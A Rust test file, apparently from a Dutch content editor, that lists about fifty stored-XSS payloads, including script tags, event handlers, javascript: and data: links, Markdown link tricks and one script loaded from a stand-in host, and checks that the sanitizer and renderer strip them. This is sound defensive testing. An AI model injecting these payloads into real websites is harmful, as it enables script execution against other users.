//! Stored-XSS payloads, and the tests that run every one of them through everything an editor
//! can write: stored Markdown, rendered bodies and plain fields.

/// Stored-XSS payloads (OWASP cheat sheet and Markdown specials), for tests of everything an
/// editor can write: bodies, plain fields, the API and the browser.
pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=/ onerror=\"alert(1)\">",
    "<img src=\"/a.png\" onload=\"alert(1)\" alt=\"x\">",
    "<svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\" onclick=\"alert(1)\">x</a>",
    "[klik](javascript:alert(1))",
    "[klik](JAVASCRIPT:alert(1) \"titel\")",
    "[klik](<java\tscript:alert(1)>)",
    "[klik](&#106;avascript:alert(1))",
    "![plaatje](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<div>\n[x](javascript:alert(1))\n</div>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "\"><svg onload=alert(1)>",
    "'><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "## Kop <script>alert(1)</script>",
    "> citaat <img src=x onerror=alert(1)>",
    "- punt <b onclick=alert(1)>vet</b>",
    "Tekst <strong onmouseover=alert(1)>sterk</strong> en <a href=\"javascript:alert(1)\">link</a>.",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rights::markdown::{
        allowlist::tag_end, plain_text, render, sanitize_source, tests::snippets,
    };
    use helder_domain::languages::Language;

    const FORBIDDEN: &[&str] = &[
        "<script",
        "onerror",
        "onload",
        "onclick",
        "javascript:",
        "<iframe",
        "<svg",
        "<object",
        "<embed",
        "<style",
        "<meta",
        "data:text/html",
    ];

    /// The markup of cleaned HTML: its tags, without the text between them. Text never holds a
    /// raw `<`, so a word like "onerror" in the text is visible text, not an attribute.
    fn markup(html: &str) -> String {
        let mut out = String::new();
        let mut rest = 0;
        while let Some(offset) = html[rest..].find('<') {
            let start = rest + offset;
            let end = tag_end(html, start).unwrap_or(html.len() - 1);
            out.push_str(&html[start..=end]);
            rest = end + 1;
        }
        out
    }

    fn assert_harmless(what: &str, payload: &str, output: &str, whole: &str) {
        for bad in FORBIDDEN {
            assert!(
                !whole.to_lowercase().contains(bad),
                "{what} of {payload:?} holds {bad:?}: {output}"
            );
        }
    }

    #[test]
    fn there_are_enough_payloads() {
        assert!(XSS_PAYLOADS.len() >= 25);
    }

    #[test]
    fn stored_payloads_render_without_anything_that_runs() {
        let nl = Language::default_language();
        for payload in XSS_PAYLOADS {
            let stored = sanitize_source(payload);
            let html = render(&stored, nl, &snippets()).html;
            // Tags and attributes: nothing of the list at all.
            assert_harmless("render", payload, &html, &markup(&html));
            // The whole output, text included: no element of the list can appear either.
            for bad in FORBIDDEN.iter().filter(|b| b.starts_with('<')) {
                assert!(!html.to_lowercase().contains(bad), "{payload:?}: {html}");
            }
            // The stored Markdown itself holds no dangerous markup for a later renderer.
            for bad in [
                "<script", "<iframe", "<svg", "<object", "<embed", "<style", "<meta",
            ] {
                assert!(
                    !stored.to_lowercase().contains(bad),
                    "{payload:?}: {stored}"
                );
            }
            for bad in ["onerror", "onload", "onclick", "javascript:"] {
                assert!(
                    !markup(&render(&stored, nl, &snippets()).html).contains(bad),
                    "{payload:?}: {stored}"
                );
            }
        }
    }

    #[test]
    fn plain_fields_hold_no_markup_for_any_payload() {
        for payload in XSS_PAYLOADS {
            let text = plain_text(payload);
            for bad in [
                "<script", "<iframe", "<svg", "<object", "<embed", "<style", "<meta", "<img", "<a ",
            ] {
                assert!(!text.to_lowercase().contains(bad), "{payload:?} → {text:?}");
            }
            assert_eq!(plain_text(&text), text, "{payload:?}");
            // Only Markdown-looking payloads keep their (harmless, escaped on output) words.
            if !payload.contains("](") && !payload.contains("]: ") {
                assert_harmless("plain_text", payload, &text, &text);
            }
        }
    }
}
